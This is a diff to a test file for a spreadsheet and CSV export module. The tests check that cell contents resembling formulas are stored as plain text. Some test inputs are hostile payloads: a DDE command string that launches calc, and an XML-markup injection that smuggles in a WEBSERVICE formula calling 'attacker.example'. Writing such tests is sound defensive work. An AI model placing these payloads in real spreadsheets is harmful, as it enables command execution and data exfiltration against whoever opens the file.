@@ -11,9 +11,9 @@ from dataclasses import dataclass
 from datetime import date
 
 import pytest
-from openpyxl import Workbook
 
-from app.exports import csv_zip, excel
+from app.exports import csv_zip
+from app.exports.spreadsheet import Book, write_table
 from app.exports.tables import Column, Kind, Table
 from tests.exports.conftest import YEAR_2025, csv_tables, fetch, period_url, workbook
 from tests.exports.test_downloads import issue
@@ -101,7 +101,8 @@ def test_excel_writes_typed_formulas_as_text_cells(signed_in, download):
     assert (action_lines.value, action_lines.data_type) == (1, "n")
     if download.has_overview:
         plan = next(value for label, value in book["Overview"].iter_rows(max_col=2) if label.value == "Plan")
-        assert plan.data_type == "s" and plan.value.startswith(PLAN_TITLE)
+        # A carriage return is written as the line feed that breaks a line in a cell.
+        assert plan.data_type == "s" and plan.value.startswith("\n=2+3")
         assert first_row(book["Meetings"])["Date"].is_date
 
 
@@ -142,12 +143,25 @@ def test_csv_leaves_real_numbers_alone_and_quotes_the_rest():
 
 
 def test_excel_keeps_negative_numbers_as_numbers_and_text_as_text():
-    book = Workbook(write_only=True)
-    excel.write_table(book.create_sheet(VALUES.title), VALUES)
-    buffer = io.BytesIO()
-    book.save(buffer)
-    assert formulas(buffer.getvalue()) == []
-    sheet = workbook(buffer.getvalue())["Values"]
+    book = Book()
+    write_table(book, VALUES)
+    data = book.file()
+    assert formulas(data) == []
+    sheet = workbook(data)["Values"]
     assert [(cell.value, cell.data_type) for row in sheet.iter_rows(min_row=2, max_row=4) for cell in row] == [
         ("-1+cmd|' /C calc'!A0", "s"), (-3, "n"), ("-3", "s"), (-2.5, "n"), ("=1+1", "s"), (0, "n"),
+    ]
+
+
+def test_excel_writes_text_that_looks_like_the_files_own_markup_as_text():
+    """XlsxWriter takes a string between <r> and </r> for rich text already written as the file's XML: typed
+    into a title, it must stay the text typed, not become part of the file (here, a formula)."""
+    typed = '<r><t>x</t></r></is><f>WEBSERVICE("http://attacker.example/")</f><is><r><t>y</t></r>'
+    book = Book()
+    write_table(book, Table("Values", "values", [Column("Text")], [[typed], ["<r>"], ["</r>"]]))
+    data = book.file()
+    assert formulas(data) == []
+    sheet = workbook(data)["Values"]
+    assert [(cell.value, cell.data_type) for (cell,) in sheet.iter_rows(min_row=2)] == [
+        (typed, "s"), ("<r>", "s"), ("</r>", "s"),
     ]
